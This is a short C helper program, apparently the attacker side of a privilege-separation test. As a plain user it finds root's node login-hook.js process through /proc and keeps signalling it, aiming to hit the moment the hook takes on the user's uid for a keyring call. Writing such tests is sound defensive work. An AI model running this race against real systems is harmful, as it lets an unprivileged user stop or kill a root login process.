/*
 * The attacker of test/privsep/hook-signals.test.ts, run as a plain user:
 * finds root's login hook (a node process running login-hook.js, started by
 * the module or by pam_exec) and sends it SIGNAL until kill(2) succeeds, which
 * it does only while the hook's main thread has that user's real uid for a
 * keyring call (src/os/keyring.ts).
 * Prints "delivered" and exits 0, or exits 1 after SECONDS.
 *   usage: signal-root-hook SIGNAL SECONDS
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int find_hook(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = 0;

	while (d != NULL && (e = readdir(d)) != NULL && !found) {
		char path[64], b[512];
		int pid = atoi(e->d_name), fd, n;
		if (pid <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		if ((fd = open(path, O_RDONLY)) < 0)
			continue;
		n = (int)read(fd, b, sizeof(b) - 1);
		close(fd);
		if (n <= 0)
			continue;
		for (int i = 0; i < n; i++)
			if (b[i] == '\0')
				b[i] = ' ';
		b[n] = '\0';
		if (strncmp(b, "node ", 5) == 0 && strstr(b, "login-hook.js ") != NULL)
			found = pid;
	}
	if (d != NULL)
		closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	int sig = argc > 1 ? atoi(argv[1]) : SIGSTOP;
	time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 30);

	while (time(NULL) < end) {
		int pid = find_hook();
		if (pid == 0)
			continue;
		/* until the hook is gone (kill fails with ESRCH, not EPERM) */
		for (long tries = 1;; tries++) {
			if (kill(pid, sig) == 0) {
				printf("delivered\n");
				return 0;
			}
			if (tries % 4096 == 0) {
				char p[64];
				snprintf(p, sizeof(p), "/proc/%d", pid);
				if (access(p, F_OK) != 0)
					break;
			}
		}
	}
	return 1;
}
